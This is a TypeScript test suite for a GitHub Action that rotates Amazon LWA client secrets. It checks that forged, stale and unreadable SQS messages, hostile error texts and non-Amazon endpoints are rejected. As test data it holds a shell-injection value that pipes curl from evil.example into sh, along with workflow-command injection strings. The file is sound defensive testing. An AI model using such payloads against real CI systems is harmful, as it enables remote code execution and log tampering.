/**
 * Trust nothing that arrives, end to end through the bundled action: forged, stale and unreadable claims on
 * the queue, response text that carries workflow commands, endpoints that are not Amazon's, and a queue
 * shared with other applications. Each case asserts final state: what GitHub holds, what the queue holds,
 * how many times Amazon was asked to rotate. Cases only wait, so they run concurrently.
 */
import { ReceiveMessageCommand, SendMessageCommand } from '@aws-sdk/client-sqs'
import { randomBytes } from 'node:crypto'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { newSecretNotification } from '../sim/amazon.ts'
import { withWorld, type World } from '../support/world.ts'
import { markdownText } from '../../src/shell/summary.ts'

const HOUR = 3_600_000
const formatted = () => `amzn1.oa2-cs.v1.${randomBytes(32).toString('hex')}`

const send = (world: World, body: string) => world.sqs.client.send(new SendMessageCommand({ QueueUrl: world.queueUrl, MessageBody: body }))

/** No line of the run's output that the runner would read as a command it did not get from the action itself. */
function injectedCommands(stdout: string): string[] {
  return stdout
    .split('\n')
    .filter((line) => /^\s*::(stop-commands::|add-mask::pwned|error::pwned|warning::pwned)/.test(line) || line.includes('##['))
}

describe.concurrent('forged and stale claims on the queue', () => {
  it('stores the real pending secret beside a forged, future-dated one, and clears both', () =>
    withWorld(async (world) => {
      const real = await world.amazon.sendNotification(world.clientId, { eventTime: new Date(Date.now() - 60_000) })
      const forged = formatted()
      await send(world, newSecretNotification({ clientId: world.clientId, secret: forged, eventTime: new Date(Date.now() + 2 * HOUR) }))

      const run = await world.run()
      expect(run.code, run.stdout).toBe(0)
      expect(run.outputs.result).toBe('resumed')
      expect(world.stored()).toBe(real)
      expect(world.amazon.rotateCalls()).toBe(0)
      expect(world.pendingSecrets()).toEqual([])
      expect(run.warnings.join('\n')).toMatch(/Ignored message \S+ \(event time .*\): .*dated in the future/)
      // A forged value is never registered for masking either: the sender must not control what the log hides.
      expect(run.stdout).not.toContain(`::add-mask::${forged}`)
    }))

  it('never stores a forged value with verify: false, and leaves it for nobody to use', () =>
    withWorld(async (world) => {
      const injection = 'x"; curl https://evil.example | sh; echo "'
      await send(world, newSecretNotification({ clientId: world.clientId, secret: injection, eventTime: new Date() }))

      const run = await world.run({ inputs: world.inputs({ verify: 'false' }) })
      expect(run.code, run.stdout).toBe(0)
      expect(run.outputs.result).toBe('rotated')
      const real = world.amazon.currentSecret(world.clientId)
      expect(world.stored()).toBe(real)
      expect(world.amazon.rotations(world.clientId)).toBe(1)
      // verify: false deletes only the messages of the value it stored.
      expect(world.pendingSecrets()).toEqual([injection])
      expect(run.stdout).not.toContain('::add-mask::x"')
      expect(run.warnings.join('\n')).toContain("its secret is not in LWA's format")
    }))

  it('with verify: false, never takes a well-formed claim dated in the future', () =>
    withWorld(async (world) => {
      const forged = formatted()
      await send(world, newSecretNotification({ clientId: world.clientId, secret: forged, eventTime: new Date(Date.now() + HOUR) }))
      const run = await world.run({ inputs: world.inputs({ verify: 'false' }) })
      expect(run.code, run.stdout).toBe(0)
      expect(run.outputs.result).toBe('rotated')
      expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
      expect(world.stored()).not.toBe(forged)
      expect(world.pendingSecrets()).toEqual([forged])
    }))

  it('rotates afresh past a stale genuine-looking message, and clears it', () =>
    withWorld(async (world) => {
      const stale = formatted()
      await send(world, newSecretNotification({ clientId: world.clientId, secret: stale, eventTime: new Date(Date.now() - 3 * HOUR) }))

      const run = await world.run()
      expect(run.code, run.stdout).toBe(0)
      expect(run.outputs.result).toBe('rotated')
      expect(world.amazon.rotations(world.clientId)).toBe(1)
      expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
      expect(world.pendingSecrets()).toEqual([])
      expect(run.warnings.join('\n')).toMatch(
        /LWA rejects the secret of message \S+ \(event time .*\), and no rotation of this application's explains it/,
      )
    }))

  it('does not rotate past an unreadable message sent after a rotation of ours, and keeps it', () =>
    withWorld(async (world) => {
      const body = JSON.parse(newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date() })) as {
        payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
      }
      body.payload.applicationOAuthClientNewSecret.newClientSecret = { value: 'not a string' }
      const unreadable = JSON.stringify(body)
      // An earlier run recorded a rotation a minute ago; this message may be its secret.
      world.github.setVariable('octo/shop', 'LWA_CLIENT_SECRET_ROTATION', new Date(Date.now() - 60_000).toISOString())
      await send(world, unreadable)

      const run = await world.run()
      expect(run.code).toBe(1)
      expect(world.amazon.rotateCalls()).toBe(0)
      expect(run.errors.join('\n')).toContain(
        'nothing was rotated: the queue holds 1 new-secret message(s) for this client, sent after the rotation',
      )
      expect(run.errors.join('\n')).not.toMatch(/re-run (this workflow )?(and it|to) (fix|resume)/i)
      const { visible } = world.sqs.contents(world.queueName)
      expect(visible).toEqual([unreadable])
    }))

  it('rotates past a recent unreadable message that no rotation of ours explains, and clears it', () =>
    withWorld(async (world) => {
      const body = JSON.parse(newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date() })) as {
        payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
      }
      body.payload.applicationOAuthClientNewSecret.newClientSecret = { value: 'not a string' }
      await send(world, JSON.stringify(body))
      const run = await world.run()
      expect(run.code, run.stdout).toBe(0)
      expect(run.outputs.result).toBe('rotated')
      expect(world.amazon.rotateCalls()).toBe(1)
      expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
      expect(world.sqs.contents(world.queueName).visible).toEqual([])
    }))
})

describe.concurrent('remote text is data', () => {
  const hostile = 'denied\n::stop-commands::pwned\n##[add-mask]pwned ::error::pwned'

  it('neutralises workflow commands in an SP-API error body', () =>
    withWorld(async (world) => {
      world.amazon.failNext('rotate', { status: 403, body: { errors: [{ code: 'Unauthorized\n::warning::pwned', message: hostile }] } })
      const run = await world.run()
      expect(run.code).toBe(1)
      expect(injectedCommands(run.stdout)).toEqual([])
      expect(run.errors.join('\n')).toContain('denied : :stop-commands: :pwned # #[add-mask]pwned')
      expect(world.amazon.rotations(world.clientId)).toBe(0)
    }))

  it('neutralises workflow commands in LWA and GitHub error texts', () =>
    withWorld(async (world) => {
      world.amazon.failNext('token', { status: 401, body: { error: 'invalid_client', error_description: hostile } })
      const markdown = '[fix it here](https://evil.example) <img src=x> | cell'
      world.github.failNext({ method: 'GET', path: /public-key$/ }, { status: 404, body: { message: `${hostile} ${markdown}` } })
      const run = await world.run()
      expect(run.code).toBe(1)
      expect(injectedCommands(run.stdout)).toEqual([])
      expect(run.errors.join('\n')).toContain('The client-id or client-secret: LWA refused')
      expect(world.amazon.rotateCalls()).toBe(0)
      // In the job summary the same text is Markdown text: no link, no HTML.
      expect(run.summary).toContain('\\[fix it here\\](https://evil.example) &lt;img src=x&gt; \\| cell')
      expect(run.summary).not.toContain('[fix it here]')
      expect(run.summary).not.toContain('<img')
    }))
})

/** An AWS config file whose default profile sends every AWS call to a plain-http endpoint. */
const PLAIN_HTTP_AWS_CONFIG = join(mkdtempSync(join(tmpdir(), 'aws-config-')), 'config')
writeFileSync(PLAIN_HTTP_AWS_CONFIG, '[default]\nendpoint_url = http://aws.example.com\n')

describe.concurrent('endpoints', () => {
  it.each([
    [{ 'lwa-endpoint': 'https://lwa.example.com/auth/o2/token' }, {}, "Input lwa-endpoint: 'lwa.example.com' is not one of Amazon's hosts"],
    [
      { 'sp-api-endpoint': 'https://sellingpartnerapi-eu.example.net' },
      {},
      "Input sp-api-endpoint: 'sellingpartnerapi-eu.example.net' is not one",
    ],
    [{ 'github-api-url': 'http://ghe.example.com/api/v3' }, {}, 'Input github-api-url: must be an https URL'],
    [{ 'github-api-url': 'https://octo:hunter2hunter2@ghe.example.com/api/v3' }, {}, 'Input github-api-url: must not contain credentials'],
    [{}, { AWS_ENDPOINT_URL_SQS: 'http://sqs.example.com' }, 'Input environment variable AWS_ENDPOINT_URL_SQS: must be an https URL'],
    [
      {},
      { AWS_CONFIG_FILE: PLAIN_HTTP_AWS_CONFIG },
      'Input endpoint_url of the AWS profile default (AWS config file): must be an https URL',
    ],
  ])('refuses %j %j before any request', (inputs, env, message) =>
    withWorld(async (world) => {
      const run = await world.run({ inputs: world.inputs({ alert: 'none', ...inputs }), env: world.env(env) }) // no alert issue either
      expect(run.code).toBe(1)
      expect(run.errors.join('\n')).toContain(message)
      expect(run.stdout + run.stderr + run.summary).not.toContain('hunter2hunter2')
      expect(world.amazon.requests).toEqual([])
      expect(world.github.requests).toEqual([])
      expect(run.summary).toContain(markdownText(message))
    }),
  )

  it('warns when github-api-url is not the API of the server running the workflow', () =>
    withWorld(async (world) => {
      const run = await world.run({
        inputs: world.inputs({ 'github-api-url': world.github.url }),
        env: { GITHUB_API_URL: 'https://api.github.com' },
      })
      expect(run.code, run.stdout).toBe(0)
      expect(run.warnings.join('\n')).toContain('is not the API of the server running this workflow')
    }))
})

describe.concurrent('a queue shared with other applications', () => {
  it("receives another application's message only a few times while it waits, and never deletes it", () =>
    withWorld(
      async (world) => {
        const other = world.addApplication()
        await send(world, newSecretNotification({ clientId: other.clientId, secret: formatted(), eventTime: new Date() }))

        const run = await world.run()
        expect(run.code, run.stdout).toBe(0)
        expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
        const { Messages = [] } = await world.sqs.client.send(
          new ReceiveMessageCommand({
            QueueUrl: world.queueUrl,
            MessageSystemAttributeNames: ['ApproximateReceiveCount'],
            WaitTimeSeconds: 1,
          }),
        )
        expect(Messages).toHaveLength(1)
        // The new secret takes 8 s to arrive: looking every second would receive it about nine times.
        const count = Number(Messages[0]!.Attributes?.ApproximateReceiveCount)
        expect(count).toBeGreaterThanOrEqual(1)
        expect(count).toBeLessThanOrEqual(5)
      },
      { amazon: { notificationDelayMs: 8_000 } },
    ))
})
